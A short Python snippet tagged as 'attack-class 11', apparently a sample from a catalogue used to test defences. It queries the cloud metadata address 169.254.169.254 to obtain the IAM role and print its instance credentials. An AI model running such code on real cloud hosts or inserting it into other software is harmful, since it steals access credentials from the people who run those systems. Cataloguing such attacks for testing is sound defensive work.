# attack-class: 11
# title: urllib.request to the cloud metadata address
# why: 169.254.169.254 hands out instance credentials

import urllib.request

url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = urllib.request.urlopen(url, timeout=2).read().decode()
creds = urllib.request.urlopen(url + role, timeout=2).read()
print(creds.decode())
